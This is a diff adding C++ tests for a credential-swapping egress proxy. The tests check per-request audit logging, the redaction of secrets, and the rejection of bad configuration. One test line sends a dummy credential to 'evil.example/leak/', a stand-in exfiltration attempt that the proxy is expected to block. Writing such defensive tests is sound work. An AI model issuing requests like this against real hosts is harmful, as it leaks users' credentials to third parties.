@@ -11,6 +11,7 @@
 #include <string>
 #include <vector>
 
+#include "bottle/egress/egress_audit.hpp"
 #include "bottle/egress/egress_config.hpp"
 #include "net_harness.hpp"
 
@@ -324,4 +325,92 @@ except (OSError, ssl.SSLError):
       run({"python3", "-c", client, std::to_string(egress.port()), egress.ca().string(), "evil.example"});
   CHECK(match.out == "answered\n");
   CHECK(egress.upstream_header("/sni-mismatch", "Host") == "evil.example");
+}
+
+TEST_CASE("bottle-egress --confdir: one audit record per request, no dummy or real value in it", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
+  NativeEgress egress(true, {"--confdir", conf.path().string()});
+
+  // The real value in the path and the dummy in a blocked path: both redacted.
+  CHECK(egress.curl("https://chatgpt.com/models/" + codex_real + "?key=secret", {"-H", bearer}).status == 200);
+  CHECK(egress.curl("https://evil.example/leak/" + codex_dummy, {"-H", bearer}).status == 403);
+  CHECK(egress.curl("https://evil.example/clean").status == 200);
+
+  const fs::path log = conf.path() / "audit.jsonl";
+  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 3; }, 10s));
+  const std::string text = read_file(log);
+  CHECK_FALSE(contains(text, codex_dummy));
+  CHECK_FALSE(contains(text, codex_real));
+  CHECK_FALSE(contains(text, "secret"));
+  CHECK(fs::status(log).permissions() == (fs::perms::owner_read | fs::perms::owner_write));
+  const auto records = bottle::parse_audit_lines(text, "audit").records;
+  REQUIRE(records.size() == 3);
+
+  const bottle::AuditRecord& swapped = records[0];
+  CHECK(swapped.bottle == "demo");
+  CHECK(swapped.action == "injected");
+  CHECK(swapped.reason == "credential swapped");
+  CHECK(swapped.route == "codex");
+  CHECK(swapped.method == "GET");
+  CHECK(swapped.host == "chatgpt.com");
+  CHECK(swapped.port == 443);
+  CHECK(swapped.path == "/models/[redacted]");
+  CHECK(swapped.status == 200);
+  CHECK(swapped.bytes_up == 0);
+  CHECK(swapped.bytes_down > 0);
+
+  const bottle::AuditRecord& blocked = records[1];
+  CHECK(blocked.action == "blocked");
+  CHECK(blocked.reason == "dummy sent to unbound host");
+  CHECK(blocked.route == "codex");
+  CHECK(blocked.host == "evil.example");
+  CHECK(blocked.path == "/leak/[redacted]");
+  CHECK(blocked.status == 403);
+
+  const bottle::AuditRecord& clean = records[2];
+  CHECK(clean.action == "tunneled");
+  CHECK(clean.reason == "forwarded unchanged");
+  CHECK(clean.route.empty());
+  CHECK(clean.status == 200);
+}
+
+TEST_CASE("bottle-egress --confdir: a refused upstream and a refused CONNECT are recorded", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
+  NativeEgress egress(false, {"--confdir", conf.path().string()});
+  CHECK(egress.curl("https://chatgpt.com/untrusted", {"-H", bearer}).status == 502);
+  const auto connect =
+      egress.raw_exchange("CONNECT chatgpt.com:443 HTTP/1.1\r\nHost: chatgpt.com:443\r\n" + bearer + "\r\n\r\n");
+  CHECK(connect.starts_with("HTTP/1.1 403 "));
+
+  const fs::path log = conf.path() / "audit.jsonl";
+  REQUIRE(wait_until([&] { return bottle::parse_audit_lines(read_file(log), "audit").records.size() == 2; }, 10s));
+  const auto records = bottle::parse_audit_lines(read_file(log), "audit").records;
+  REQUIRE(records.size() == 2);
+  CHECK(records[0].action == "refused");
+  CHECK(records[0].status == 0);
+  CHECK(contains(records[0].reason, "certificate verify failed"));
+  CHECK(records[0].route == "codex");
+  CHECK(records[1].action == "blocked");
+  CHECK(records[1].reason == "dummy in CONNECT");
+  CHECK(records[1].method == "CONNECT");
+  CHECK(records[1].path.empty());
+  CHECK(records[1].status == 403);
+  CHECK_FALSE(contains(read_file(log), codex_dummy));
+  CHECK_FALSE(contains(read_file(log), codex_real));
+}
+
+TEST_CASE("bottle-egress --confdir: a bad audit.json stops egress before it listens", "[native-egress]") {
+  TempDir conf;
+  write_file(conf.path() / "audit.json", R"({"version": 2, "bottle": "demo", "log": "audit.jsonl", "max_bytes": 10})");
+  TempDir files;
+  write_file(files.path() / "routes.json", R"({"version": 1, "routes": []})");
+  write_file(files.path() / "ca.pem", "");
+  const auto r = run({test_paths::bottle_egress, "--listen", "127.0.0.1:1", "--ca", (files.path() / "ca.pem").string(),
+                      "--routes", (files.path() / "routes.json").string(), "--confdir", conf.path().string()});
+  CHECK_FALSE(r.ok());
+  CHECK(contains(r.err, "--confdir " + conf.path().string()));
+  CHECK(contains(r.err, "must be 1"));
+  CHECK_FALSE(contains(r.out, "ready"));
 }
